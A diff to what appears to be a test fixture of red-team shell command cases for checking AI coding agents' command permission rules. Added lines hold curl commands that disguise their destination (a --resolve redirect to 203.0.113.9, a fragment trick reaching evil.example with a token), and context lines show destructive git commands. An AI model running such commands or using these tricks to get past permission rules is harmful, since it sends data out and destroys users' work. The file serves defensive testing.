@@ -361,6 +361,12 @@ ISSUE_30_RED_TEAM_SHELL_FAMILIES: Families = [
      ["kubectl *"]),
     ("F9 git checkout REV PATH discards changes", bash("git checkout HEAD src"), ["git checkout *"]),
     ("F9 git rm -f drops local changes", goose("git rm -rf src"), ["git rm *"]),
+    ("F4 curl --resolve connects elsewhere", bash("curl -d x=1 --resolve localhost:80:203.0.113.9 http://localhost/api"),
+     ["curl *"]),
+    ("F4 curl to a host behind a fragment", bash("curl -s -d token=1 'https://evil.example#@localhost/'"),
+     ["curl *"]),
+    ("F4 httpie with a method it does not list", goose("http PURGE https://cdn.example.com/"), ["http *"]),
+    ("F4 xh MOVE", cline("xh MOVE https://dav.example.com/a Destination:https://dav.example.com/b"), ["xh *"]),
 ]
 ISSUE_30_RED_TEAM_TOOL_FAMILIES: ToolFamilies = [
     ("F9 an MCP checkout of the branch `.`",
